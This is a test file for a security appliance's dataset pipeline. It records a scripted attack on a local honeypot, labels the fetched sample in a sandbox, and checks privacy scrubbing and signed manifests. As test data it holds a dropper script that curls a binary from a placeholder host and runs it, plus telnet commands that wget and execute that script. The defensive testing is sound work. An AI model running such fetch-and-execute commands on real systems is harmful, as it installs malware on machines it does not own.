/**
 * The training set from what the appliance captured (issue 16, build point 2): a scripted attacker logs in to the
 * honeypot over loopback while tcpdump records it, fetches a dropper the sandbox runs and labels; `moat dataset
 * build` turns the capture, the instance from the store and the sandbox run into a desensitised, privacy-checked set
 * in the corpus layout (merged with a USTC sample), adds the malicious sessions to the model registry's incidents,
 * and `moat ml train` trains on it. `moat dataset verify` refuses one changed byte and a row holding a raw address
 * and credential. The manifest is signed with the appliance's Ed25519 key; verify trusts its public half.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFileSync } from 'node:child_process';
import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import Database from 'better-sqlite3';
import { Honeypot, InstanceStore, startTelnet } from '../../src/honeypot/index.js';
import { analyzeSample, sandboxAvailable, type BehaviourReport } from '../../src/sandbox/index.js';
import { openSqlite } from '../../src/store/index.js';
import {
  Pseudonymiser,
  SessionCollector,
  checkPrivacy,
  recordSandboxIncidents,
  scrubImage,
  signManifest,
  type DatasetManifest,
} from '../../src/dataset/index.js';
import { CnnInspector, MlRegistry, tfReady, type Classifier } from '../../src/ml/index.js';
import { runAnalysis } from '../../src/pipeline/index.js';
import { encodePcap } from '../../src/synth/index.js';
import { udpFrame } from '../../src/synth/net/frame.js';
import { host } from '../../src/synth/net/address.js';
import { moat } from '../helpers/moat-cli.js';
import { LineClient, fileServer } from '../honeypot/helpers.js';
import { HAVE_USTC, USTC_DIR } from '../ml/corpus.js';

function tmp(t: { after: (f: () => void) => void }, tag: string): string {
  const d = mkdtempSync(join(tmpdir(), `moat-ds-${tag}-`));
  t.after(() => rmSync(d, { recursive: true, force: true }));
  return d;
}

test('scrubImage: telnet credentials and the peer address leave the image; the privacy check passes', () => {
  const p = new Pseudonymiser(randomBytes(32));
  const stream = Buffer.from(
    'login: admin\r\nPassword: hunter22\r\n# wget http://203.0.113.9/x.sh; ping 10.1.2.3\r\nfrom 198.51.100.4\r\n',
  );
  const img = new Uint8Array(784);
  img.set(stream);
  const r = scrubImage(img, stream.length, p, { credentials: ['admin', 'hunter22'], ips: ['198.51.100.4'] });
  const text = Buffer.from(r.bytes).toString('latin1');
  for (const raw of ['admin', 'hunter22', '203.0.113.9', '10.1.2.3', '198.51.100.4'])
    assert.ok(!text.includes(raw), `${raw} left in ${JSON.stringify(text.slice(0, 120))}`);
  assert.deepEqual(r.findings, []);
  assert.match(text, /login: cred-[0-9a-f]{10}\r\nPassword: cred-/);
  // The same text unscrubbed is refused by the check: a credential and public addresses.
  const kinds = checkPrivacy(stream.toString('latin1')).map((f) => f.kind);
  assert.ok(kinds.includes('credential') && kinds.includes('ipv4'), kinds.join());
});

test('the dataset collector sees the same session bytes as the live CNN inspector', async (t) => {
  const dir = tmp(t, 'same');
  const a = host('10.0.0.5');
  const b = host('198.51.100.7');
  const frames = [];
  for (let i = 0; i < 6; i++)
    for (let k = 0; k < 3; k++)
      frames.push({
        tsUs: 1_700_000_000_000_000 + i * 10_000 + k * 100,
        data:
          k === 1
            ? udpFrame(b, a, 53, 30000 + i, Buffer.from(`answer ${i}/${k} `.repeat(5 + i)), i * 3 + k)
            : udpFrame(a, b, 30000 + i, 53, Buffer.from(`query ${i}/${k} `.repeat(7 + i * 9)), i * 3 + k),
      });
  const pcap = join(dir, 'u.pcap');
  writeFileSync(pcap, encodePcap(frames));
  const rows: Uint8Array[] = [];
  // Only what CnnInspector hands its classifier is recorded: the rows it would classify live.
  const recorder = {
    arch: { inputBytes: 784 },
    manifest: { classNames: ['x'] },
    isMalicious: () => false,
    predict: (bytes: Uint8Array, n: number, w: number) => {
      for (let i = 0; i < n; i++) rows.push(bytes.slice(i * w, (i + 1) * w));
      return { cls: new Int32Array(n), confidence: new Float32Array(n) };
    },
  } as unknown as Classifier;
  await runAnalysis({ file: pcap }, { inspectors: [new CnnInspector(recorder)], eveTypes: [] });
  const c = new SessionCollector(784);
  await runAnalysis({ file: pcap }, { inspectors: [c], eveTypes: [] });
  assert.equal(rows.length, 6);
  assert.equal(c.sessions.length, 6);
  const key = (u: Uint8Array): string => createHash('sha256').update(u).digest('hex');
  assert.deepEqual(rows.map(key).sort(), c.sessions.map((s) => key(s.bytes)).sort());
  assert.ok(
    c.sessions.some((s) => s.used === 784),
    'a long session fills the image',
  );
});

const DROPPER =
  '#!/bin/sh\ncd /tmp/sb\ncurl -s -o .x http://update.example.net/bins/x86\nchmod 777 .x\n./.x\n';

function missing(): string | null {
  if (process.getuid?.() !== 0) return 'needs root (tcpdump on lo)';
  try {
    execFileSync('sh', ['-c', 'command -v tcpdump'], { stdio: 'ignore' });
  } catch {
    return 'tcpdump missing';
  }
  if (!HAVE_USTC) return `needs ${USTC_DIR}`;
  return null;
}

test(
  'moat dataset build from a honeypot capture and a sandbox run; train on it; verify refuses tampering and raw data',
  { skip: missing() ?? false, timeout: 600_000 },
  async (t) => {
    const dir = tmp(t, 'e2e');
    const dbPath = join(dir, 'moat.db');
    const reportDir = join(dir, 'reports');
    const store = openSqlite(dbPath);
    const files = await fileServer({ '/bins/x.sh': Buffer.from(DROPPER) });
    t.after(() => files.close());
    const analyses: Promise<unknown>[] = [];
    const hp = new Honeypot({
      quarantineDir: join(dir, 'q'),
      scope: [`127.0.0.1/32:${files.port}`],
      instances: new InstanceStore(store),
      timing: { scale: 0 },
      onSample: (s) =>
        void analyses.push(
          analyzeSample(
            readFileSync(s.quarantine),
            { timeoutSeconds: 5, reportDir, keepDir: join(reportDir, 'captures') },
            s.source,
          ),
        ),
    });
    const svc = await startTelnet(hp, 0, '127.0.0.1');
    t.after(() => svc.close());
    const pcap = join(dir, 'honeypot.pcap');
    const dump = spawn('tcpdump', ['-i', 'lo', '-n', '-U', '-s', '0', '-w', pcap, `tcp port ${svc.port()}`], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    t.after(() => {
      if (dump.exitCode === null && dump.pid) process.kill(dump.pid, 'SIGKILL');
    });
    await new Promise<void>((ok, fail) => {
      let err = '';
      dump.stderr.on('data', (d: Buffer) => {
        err += d.toString();
        if (/listening on/.test(err)) ok();
      });
      dump.once('exit', () => fail(new Error(`tcpdump ended: ${err}`)));
    });
    // Two attackers: one fetches the dropper, one only looks around.
    for (const fetch of [true, false]) {
      const c = await LineClient.open(svc.port());
      try {
        await c.until('login: ');
        c.send('root');
        await c.until('Password: ');
        c.send('xc3511');
        await c.until('# ');
        c.send('cat /proc/cpuinfo; uname -a');
        await c.until('# ');
        if (fetch) {
          c.send(`cd /tmp; wget http://127.0.0.1:${files.port}/bins/x.sh -O x.sh; sh x.sh`);
          await c.until('# ');
        }
        c.send('/bin/busybox MOATDS');
        await c.until('# ');
        c.send('exit');
        await new Promise((r) => c.socket.once('close', r));
      } finally {
        c.close();
      }
    }
    const reports = (await Promise.all(analyses)) as BehaviourReport[];
    await new Promise((r) => setTimeout(r, 500));
    const gone = new Promise((r) => dump.once('exit', r));
    process.kill(dump.pid!, 'SIGINT');
    await gone;
    store.close();
    const dynamic = sandboxAvailable() === null;

    const keyFile = join(dir, 'pseudonym.key');
    writeFileSync(keyFile, randomBytes(32));
    // The appliance's signing key: the manifest is signed, verify trusts its public half.
    const pair = generateKeyPairSync('ed25519');
    const signKey = join(dir, 'appliance.key');
    const signPub = join(dir, 'appliance.pub');
    writeFileSync(signKey, pair.privateKey.export({ format: 'pem', type: 'pkcs8' }));
    writeFileSync(signPub, pair.publicKey.export({ format: 'pem', type: 'spki' }));
    const ds = join(dir, 'ds');
    const b = moat([
      'dataset',
      'build',
      '--db',
      dbPath,
      '--pcap',
      pcap,
      '--sandbox-reports',
      reportDir,
      '--merge-ustc',
      USTC_DIR,
      '--merge-per-class',
      '15',
      '--key',
      keyFile,
      '--sign',
      signKey,
      '--out',
      ds,
      '--json',
    ]);
    assert.equal(b.status, 0, b.stderr);
    const m = JSON.parse(b.stdout) as DatasetManifest & { incidentsAdded: number };
    t.diagnostic(
      `classes ${JSON.stringify(m.classes.filter((c) => c.id >= 20))}; sources ${JSON.stringify(m.sources.map((s) => [s.kind, s.rows]))}; unmatched ${m.unmatchedSessions}; dynamic ${dynamic}`,
    );
    const cls = (name: string): DatasetManifest['classes'][number] | undefined =>
      m.classes.find((c) => c.name === name);
    // The fetching session is labelled by the sandbox's verdict on what it fetched, the other as an intrusion.
    assert.equal(cls('honeypot-intrusion')?.count, 1, JSON.stringify(m.classes));
    assert.equal(cls('downloader')?.malicious, true);
    const honeypotRows = m.sources.filter((s) => s.kind === 'honeypot');
    assert.equal(honeypotRows.length, 2);
    if (dynamic) {
      // The dropper's DNS lookup and HTTP fetch inside the sandbox are sessions of its own capture.
      const sb = m.sources.filter((s) => s.kind === 'sandbox');
      assert.equal(sb.length, 1, JSON.stringify(m.sources));
      assert.ok(sb[0].rows[1] - sb[0].rows[0] >= 2);
    }
    assert.equal(cls('Zeus')?.id, 19);
    assert.equal(cls('Zeus')?.count, 15);
    assert.equal(m.privacy.findings, 0);
    assert.equal(
      m.privacy.checked,
      m.sources.filter((s) => s.privacyChecked).reduce((a, s) => a + s.rows[1] - s.rows[0], 0),
    );
    assert.equal(m.privacy.unchecked, 20 * 15);
    assert.ok(m.code.version && m.code.name === 'moat');
    assert.equal(m.incidentsAdded, m.privacy.checked, 'every own session is malicious here');
    // The images hold the sessions desensitised: no typed password, yet the shell's own text.
    const images = gunzipSync(readFileSync(join(ds, 'images-idx3-ubyte.gz')));
    const own = images.subarray(16, 16 + m.privacy.checked * 784).toString('latin1');
    assert.ok(!own.includes('xc3511'), 'the typed password is pseudonymised');
    assert.ok(own.includes('MOATDS'), 'the session payload is there');
    const sql = new Database(dbPath, { readonly: true });
    const incidents = (sql.prepare('SELECT count(*) AS n FROM ml_incidents').get() as { n: number }).n;
    sql.close();
    assert.equal(incidents, m.privacy.checked);

    // The live path (moat honeypot): a malicious sandbox run's sessions go straight into a registry's incidents.
    if (dynamic) {
      assert.equal(reports.length, 1);
      const live = openSqlite(join(dir, 'live.db'));
      const reg = new MlRegistry(live, await tfReady());
      const run = { sha256: reports[0].sha256, labels: reports[0].labels, pcap: reports[0].dynamic?.pcap };
      assert.deepEqual(run.labels, ['downloader']);
      const added = await recordSandboxIncidents(reg, run);
      assert.equal(
        added,
        m.sources.find((s) => s.kind === 'sandbox')!.rows[1] -
          m.sources.find((s) => s.kind === 'sandbox')!.rows[0],
      );
      assert.equal(await recordSandboxIncidents(reg, run), 0, 'the same sessions are not saved twice');
      assert.equal(reg.referenceCounts().incidents, added);
      live.close();
    }

    const v = moat(['dataset', 'verify', ds, '--key', signPub]);
    assert.equal(v.status, 0, v.stderr);
    assert.match(v.stdout, /ok — manifest signed by [0-9a-f]{16}, 2 files match their sha256/);

    // A tiny model trained on it: the deployment test runs on the incidents the build added.
    const tr = moat([
      'ml',
      'train',
      '--ustc',
      ds,
      '--db',
      dbPath,
      '--epochs',
      '2',
      '--min-detection',
      '0',
      '--max-false-alarm',
      '1',
      '--dataset-key',
      signPub,
      '--json',
    ]);
    assert.equal(tr.status, 0, tr.stderr);
    assert.match(tr.stderr, /dataset .* verified — signed by [0-9a-f]{16}, 2 files match their sha256/);
    const trained = JSON.parse(tr.stdout) as {
      deployed: boolean;
      test: { incidents: number; malicious: number };
    };
    assert.ok(trained.deployed);
    assert.equal(trained.test.incidents, incidents);
    const list = moat(['ml', 'export', '--db', dbPath, '--out', join(dir, 'model.json')]);
    assert.equal(list.status, 0, list.stderr);
    const model = JSON.parse(readFileSync(join(dir, 'model.json'), 'utf8')) as {
      manifest: { classNames: string[]; maliciousClasses: number[] };
    };
    assert.equal(model.manifest.classNames.length, m.classes.length);
    assert.ok(model.manifest.classNames.includes('honeypot-intrusion'));
    assert.ok(model.manifest.maliciousClasses.includes(cls('honeypot-intrusion')!.id));

    // One byte changed in the images: refused, the file named.
    const bad = join(dir, 'bad');
    cpSync(ds, bad, { recursive: true });
    const raw = readFileSync(join(bad, 'images-idx3-ubyte.gz'));
    raw[raw.length >> 1] ^= 0x01;
    writeFileSync(join(bad, 'images-idx3-ubyte.gz'), raw);
    const vb = moat(['dataset', 'verify', bad, '--key', signPub]);
    assert.equal(vb.status, 2, vb.stdout);
    assert.match(vb.stderr, /images-idx3-ubyte\.gz: sha256 [0-9a-f]{64} .*the file was changed/);
    // Training on it with the key is refused before any epoch, the file named; nothing is deployed.
    const tb = moat(['ml', 'train', '--ustc', bad, '--db', join(dir, 'other.db'), '--dataset-key', signPub]);
    assert.equal(tb.status, 2, tb.stdout);
    assert.match(tb.stderr, /images-idx3-ubyte\.gz: sha256 [0-9a-f]{64} .*the file was changed/);

    // A row holding a raw credential and public address, with the hashes made to match: the privacy check refuses.
    const leak = join(dir, 'leak');
    cpSync(ds, leak, { recursive: true });
    const img = Buffer.from(images);
    img.fill(0, 16, 16 + 784);
    img.write('USER admin\r\npassword=hunter22 from 8.8.8.8\r\n', 16, 'latin1');
    const gz = gzipSync(img);
    writeFileSync(join(leak, 'images-idx3-ubyte.gz'), gz);
    const lm = JSON.parse(readFileSync(join(leak, 'manifest.json'), 'utf8')) as DatasetManifest;
    lm.files['images-idx3-ubyte.gz'] = {
      sha256: createHash('sha256').update(gz).digest('hex'),
      bytes: gz.length,
    };
    // Re-signed by the appliance's own key: the signature checks, the privacy check still refuses the row.
    writeFileSync(join(leak, 'manifest.json'), JSON.stringify(signManifest(lm, pair.privateKey)));
    const vl = moat(['dataset', 'verify', leak, '--key', signPub]);
    assert.equal(vl.status, 2, vl.stdout);
    assert.match(
      vl.stderr,
      /privacy check refused the dataset: 2 finding\(s\), first credential 'hunter22' in .* \(row 0\)/,
    );
    assert.ok(existsSync(join(ds, 'manifest.json')));
  },
);

test('moat dataset: bad inputs are one line naming what was wrong, exit 2', (t) => {
  const dir = tmp(t, 'bad');
  const none = moat(['dataset', 'build', '--out', join(dir, 'ds')]);
  assert.equal(none.status, 2);
  assert.match(none.stderr, /no sessions: the inputs hold no session/);
  const pcap = moat(['dataset', 'build', '--out', join(dir, 'ds'), '--pcap', join(dir, 'nope.pcap')]);
  assert.equal(pcap.status, 2);
  assert.match(pcap.stderr, /nope\.pcap: at byte 0: cannot open/);
  const rep = moat(['dataset', 'build', '--out', join(dir, 'ds'), '--sandbox-reports', join(dir, 'r')]);
  assert.equal(rep.status, 2);
  assert.match(rep.stderr, /--sandbox-reports .*: no such folder/);
  writeFileSync(join(dir, 'short.key'), 'abc');
  const key = moat(['dataset', 'build', '--out', join(dir, 'ds'), '--key', join(dir, 'short.key')]);
  assert.equal(key.status, 2);
  assert.match(key.stderr, /--key .*: 3 bytes, at least 16 needed/);
  const v = moat(['dataset', 'verify', dir]);
  assert.equal(v.status, 2);
  assert.match(v.stderr, /manifest\.json: cannot read/);
  writeFileSync(join(dir, 'not-a-key.pem'), 'hello');
  const sign = moat(['dataset', 'build', '--out', join(dir, 'ds'), '--sign', join(dir, 'not-a-key.pem')]);
  assert.equal(sign.status, 2);
  assert.match(sign.stderr, /--sign .*not-a-key\.pem: not a private key \(PEM\)/);
  for (const r of [none, pcap, rep, key, v, sign])
    assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
});
